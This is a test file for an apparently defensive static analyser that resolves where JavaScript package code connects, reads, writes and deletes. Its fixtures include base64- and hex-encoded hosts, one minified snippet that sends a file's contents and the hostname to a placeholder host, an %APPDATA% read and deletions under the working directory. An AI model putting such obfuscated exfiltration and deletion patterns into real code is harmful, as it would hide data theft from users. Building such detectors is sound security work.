import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../test/behave.ts';
import { processorMs } from '../../test/effort.ts';

/** Files, and where they connect to. */
const CASES: readonly (readonly [string, Readonly<Record<string, string | object>>, string])[] = [
  [
    'required JSON',
    { 'index.js': `fetch(require('./c.json').a.host)`, 'c.json': { a: { host: 'https://a.invalid' } } },
    'https://a.invalid',
  ],
  [
    'JSON that is read and parsed',
    {
      'index.js': `const c = JSON.parse(require('fs').readFileSync(require('path').join(__dirname, 'c.json'), 'utf8')); fetch('https://' + c.host)`,
      'c.json': { host: 'a.invalid' },
    },
    'https://a.invalid',
  ],
  [
    'what stands in the code where a variable is not set',
    { 'index.js': `const u = process.env.U || 'https://a.invalid'; fetch(u)` },
    '<env:U> | https://a.invalid',
  ],
  [
    'the same as a default that is taken apart',
    { 'index.js': `const { U = 'https://a.invalid' } = process.env; fetch(U)` },
    '<env:U> | https://a.invalid',
  ],
  [
    'the same as a default of a parameter',
    { 'index.js': `const go = (u = process.env.U || 'https://a.invalid') => fetch(u + '/x'); go()` },
    '<env:U>/x | https://a.invalid/x',
  ],
  [
    'the same among settings',
    { 'index.js': `const s = { u: process.env.U || 'https://a.invalid' }; fetch(s.u)` },
    '<env:U> | https://a.invalid',
  ],
  [
    'the same, put there later',
    { 'index.js': `let u = process.env.U; if (!u) u = 'https://a.invalid'; fetch(u)` },
    '<env:U> | https://a.invalid',
  ],
  [
    'what a helper puts together of whatever it is given, for each of its callers',
    {
      'index.js': `const { posix } = require('path'); const at = (...parts) => posix.join(...parts); fetch('https://a.invalid' + at(process.env.X, 'a')); require('fs').readFile(at('/b', 'c', 'd'), () => {});`,
    },
    'https://a.invalid<env:X>/a',
  ],
  [
    'lists of a table of data that are spread out, below each of several places',
    {
      'index.js': `const { join } = require('path'); const root = process.env.ROOT ?? 'https://a.invalid'; class Row { constructor({ to }) { this.to = root + '/' + join(...to); } ask() { fetch(this.to); } } for (const row of require('./rows.json')) new Row(row).ask();`,
      'rows.json': [{ to: ['x', 'y'] }, { to: ['z'] }],
    },
    '<env:ROOT>/x/y | <env:ROOT>/z | https://a.invalid/x/y | https://a.invalid/z',
  ],
  [
    'a part that callers pass, in each of several addresses',
    {
      'index.js': `require('./c').ask('a')`,
      'c.js': `exports.ask = name => { for (const way of ['x', 'y']) fetch('https://' + name + '.invalid/' + way); }`,
    },
    'https://a.invalid/x | https://a.invalid/y',
  ],
  [
    'the same through a function that looks for the first of several',
    {
      'index.js': `require('./c').ask('a')`,
      'c.js': `function find(name) { for (const way of ['x', 'y']) { const url = 'https://' + name + '.invalid/' + way; if (isUp(url)) return url; } } exports.ask = name => fetch(find(name))`,
    },
    'https://a.invalid/x | https://a.invalid/y',
  ],
  [
    'the value of a map',
    { 'index.js': `const m = new Map([['a', 'https://a.invalid'], ['b', 'https://b.invalid']]); fetch(m.get('b'))` },
    'https://b.invalid',
  ],
  [
    'each value of a map',
    { 'index.js': `const m = new Map([['a', 'https://a.invalid'], ['b', 'https://b.invalid']]); for (const u of m.values()) fetch(u)` },
    'https://a.invalid | https://b.invalid',
  ],
  [
    'each pair of a map',
    { 'index.js': `const m = new Map([['a', 'https://a.invalid']]); for (const [, u] of m) fetch(u)` },
    'https://a.invalid',
  ],
  ['each key of a map', { 'index.js': `new Map([['https://a.invalid', 1]]).forEach((n, u) => fetch(u))` }, 'https://a.invalid'],
  [
    'what a map is filled with',
    { 'index.js': `const m = new Map(); for (const n of ['a', 'b']) m.set(n, 'https://' + n + '.invalid'); fetch(m.get(process.argv[2]))` },
    'https://a.invalid | https://b.invalid',
  ],
  [
    'what a map of a class is filled with',
    {
      'index.js': `class A { constructor() { this.m = new Map(); this.m.set('a', 'https://a.invalid'); } go() { for (const [, u] of this.m) fetch(u); } } new A().go()`,
    },
    'https://a.invalid',
  ],
  [
    'an object that a map keeps',
    { 'index.js': `const { u } = new Map().set('a', { u: 'https://a.invalid' }).get('a'); fetch(u)` },
    'https://a.invalid',
  ],
  [
    'an object that is made of pairs',
    {
      'index.js': `const o = Object.fromEntries(['a', 'b'].map(n => [n, 'https://' + n + '.invalid'])); for (const u of Object.values(o)) fetch(u)`,
    },
    'https://a.invalid | https://b.invalid',
  ],
  [
    'a map of another file',
    {
      'index.js': `const { m } = require('./m'); for (const [, u] of m) fetch(u)`,
      'm.js': `exports.m = new Map([['a', 'https://a.invalid']])`,
    },
    'https://a.invalid',
  ],
  [
    'a member of settings of its own where nobody gives any',
    { 'index.js': `exports.go = given => { const s = given || { url: 'https://a.invalid' }; fetch(s.url); }` },
    'https://a.invalid',
  ],
  [
    'a member of objects that are made of a list',
    {
      'index.js': `const all = ['a', 'b'].map(name => ({ name, url: 'https://' + name + '.invalid' })); for (const one of all) fetch(one.url)`,
    },
    'https://a.invalid | https://b.invalid',
  ],
  [
    'what a function gives that gives an empty list first',
    {
      'index.js': `const urls = on => { if (!on) return []; return ['https://a.invalid']; }; for (const u of urls(process.argv[2])) fetch(u)`,
    },
    'https://a.invalid',
  ],
  [
    'a set that is filled',
    { 'index.js': `const s = new Set(); s.add('https://a.invalid'); for (const u of s) fetch(u)` },
    'https://a.invalid',
  ],
  [
    'a line of text',
    { 'index.js': `fetch(require('fs').readFileSync(__dirname + '/h.txt', 'utf8').trim())`, 'h.txt': 'https://a.invalid\n' },
    'https://a.invalid',
  ],
  [
    'a constant of another file',
    { 'index.js': `import { H } from './c.js'; fetch(H)`, 'c.js': `export const H = 'https://a.invalid'` },
    'https://a.invalid',
  ],
  [
    'what another file passes',
    { 'index.js': `require('./s')('https://a.invalid')`, 's.js': `module.exports = url => fetch(url)` },
    'https://a.invalid',
  ],
  [
    'encoded JSON',
    { 'index.js': `fetch(atob(require('./c.json').host))`, 'c.json': { host: 'aHR0cHM6Ly9hLmludmFsaWQ' } },
    'https://a.invalid',
  ],
  [
    'a list in hexadecimal digits',
    {
      'index.js': `for (const h of require('./c.json').hosts) fetch(Buffer.from(h, 'hex').toString())`,
      'c.json': { hosts: ['68747470733a2f2f612e696e76616c6964', '68747470733a2f2f622e696e76616c6964'] },
    },
    'https://a.invalid | https://b.invalid',
  ],
  ['JSON that is encoded otherwise', { 'index.js': `fetch(atob(require('./c.json').host))`, 'c.json': { host: '%%%=' } }, '%%%='],
  [
    'one of several that stand encoded in the file',
    { 'index.js': `for (const h of ['aHR0cHM6Ly9hLmludmFsaWQ=', 'aHR0cHM6Ly9iLmludmFsaWQ=']) fetch(atob(h))` },
    'https://a.invalid | https://b.invalid',
  ],
  [
    'what another file holds encoded',
    {
      'index.js': `const C = require('./c'); const d = s => Buffer.from(s, 'base64').toString(); fetch(d(C.where))`,
      'c.js': `module.exports = { where: 'aHR0cHM6Ly9hLmludmFsaWQveA==' }`,
    },
    'https://a.invalid/x',
  ],
  [
    'a text that only looks encoded',
    { 'index.js': `const C = require('./c'); fetch('https://a.invalid/' + C.where)`, 'c.js': `module.exports = { where: 'releases' }` },
    'https://a.invalid/releases',
  ],
  [
    'any of a list, in a loop that counts',
    { 'index.js': `const all = ['https://a.invalid', 'https://b.invalid']; for (let i = 0; i < all.length; i++) fetch(all[i])` },
    'https://a.invalid | https://b.invalid',
  ],
  [
    'any of a list, by its entries',
    { 'index.js': `for (const [i, url] of ['https://a.invalid', 'https://b.invalid'].entries()) fetch(url)` },
    'https://a.invalid | https://b.invalid',
  ],
  [
    'one of the pairs that another file holds',
    {
      'index.js': `for (const [name, url] of require('./c').all) fetch(url)`,
      'c.js': `exports.all = [['a', 'https://a.invalid'], ['b', 'https://b.invalid']]`,
    },
    'https://a.invalid | https://b.invalid',
  ],
  [
    'a member of what the file itself offers',
    { 'index.js': `exports.hosts = { main: 'https://a.invalid' }; fetch(exports.hosts.main)` },
    'https://a.invalid',
  ],
  [
    'what all addresses of a client begin with',
    { 'index.js': `const c = require('got').extend({ prefixUrl: 'https://a.invalid' }); c.post('x:y/z')` },
    'https://a.invalid/x:y/z',
  ],
  [
    'an address that a client is given as a whole',
    { 'index.js': `const c = require('got').extend({ prefixUrl: 'https://a.invalid' }); c.post('https://b.invalid/z')` },
    'https://b.invalid/z',
  ],
  [
    'what a builder that gives itself is told one after the other',
    { 'index.js': `class B { ask(url) { fetch(url); return this } } new B().ask('https://a.invalid').ask('https://b.invalid')` },
    'https://b.invalid | https://a.invalid',
  ],
  [
    'what is loaded later, as compilers make it of an import',
    {
      'index.js': `Promise.resolve().then(() => __importStar(require('./s'))).then(({ go }) => go('https://a.invalid'))`,
      's.js': `exports.go = url => fetch(url)`,
    },
    'https://a.invalid',
  ],
  [
    'an object of a class that is chosen from a table',
    {
      'index.js': `class A { ask(url) { fetch(url) } } class B {} new ({ linux: A, win32: B })[process.platform]().ask('https://a.invalid')`,
    },
    'https://a.invalid',
  ],
  [
    'what Rollup wraps, by a helper whose name a minifier took',
    {
      'index.js': `function e(e) { return e && 'object' == typeof e && 'default' in e ? e : { default: e } } var n = e(require('fs')), r = e(require('os')), t = e(require('node-fetch')); t.default('https://a.invalid/' + n.default.readFileSync('x') + r.default.hostname())`,
    },
    'https://a.invalid/*',
  ],
  ['a member that is not there', { 'index.js': `fetch(require('./c.json').other)`, 'c.json': { host: 'https://a.invalid' } }, ''],
  ['broken JSON', { 'index.js': `fetch(require('./c.json').host)`, 'c.json': '{' }, ''],
  ['an inherited member', { 'index.js': `fetch(require('./c.json').constructor.name)`, 'c.json': {} }, ''],
];

describe('settle', () => {
  for (const [what, files, expected] of CASES) {
    it(what, () => {
      const effect = behaviourOf(files).effects.find(one => one.kind === 'connects');
      assert.equal(effect?.target, expected);
    });
  }

  it('a path that a function expands is told with its variables', () => {
    const read = behaviourOf({
      'index.js': `const f = p => p.replace(/%(\\w+)%/g, (_, name) => process.env[name]); require('fs').readFileSync(f('%APPDATA%/inert'))`,
    }).effects.find(one => one.kind === 'reads file');
    assert.equal(read?.target, '<env:APPDATA>/inert');
  });

  it('names below a folder that another file passes are told with it', () => {
    const deleted = behaviourOf({
      'index.js': `require('./d')(process.cwd())`,
      'd.js': `module.exports = root => { for (const name of ['a', 'b']) require('fs').rmSync(require('path').join(root, name)) }`,
    }).effects.find(one => one.kind === 'deletes');
    assert.equal(deleted?.target, '<cwd>/a | <cwd>/b');
  });

  it('a folder named by a file of another folder is told from there', () => {
    const { effects } = behaviourOf({
      'index.js': `require('./lib/s')(__dirname + '/x')`,
      'lib/s.js': `module.exports = to => require('fs').writeFileSync(to, '')`,
    });
    assert.equal(effects.find(one => one.kind === 'writes file')?.target, '<here>/../x');
  });

  it('what many files hand on to each other is worked out once', () => {
    const many = 120;
    const handing = (index: number): string =>
      `const n = require('./f${(index + 1) % many}'), m = require('./f${(index * 7 + 3) % many}'); module.exports = x => {
        const r = n({ ...x, a${index}: x }) + m([x, x]); fetch('https://a.invalid/' + x.a + r, { body: n(m(x)) }); return [n(x), m(x), r]; };`;
    const files = Object.fromEntries(Array.from({ length: many }, (_, index) => [`f${index}.js`, handing(index)]));
    const before = processorMs();
    behaviourOf({ ...files, 'index.js': `require('./f0')(process.env);` });
    assert.ok(processorMs() - before < 12_000);
  });

  it('ends where functions hand each other a member of what they are handed', () => {
    const before = processorMs();
    behaviourOf({
      'index.js': `const { walk } = require('./w'); exports.start = o => walk(o.child);`,
      'w.js': `const { start } = require('./index'); exports.walk = o => { fetch(o.url); start(o.child); };`,
    });
    assert.ok(processorMs() - before < 12_000);
  });
});
